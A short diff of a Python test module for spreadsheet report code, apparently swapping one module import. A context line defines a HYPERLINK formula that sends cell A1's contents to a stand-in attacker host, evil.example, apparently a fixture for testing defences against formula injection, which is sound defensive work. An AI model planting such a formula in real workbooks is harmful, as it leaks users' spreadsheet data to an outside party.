@@ -27,7 +27,7 @@ import openpyxl
 import pytest
 import xlsxwriter
 
-import forecast.report.atomic as atomic
+import forecast.files as atomic
 from factory import Sheets, minimal_sheets, write_workbook
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
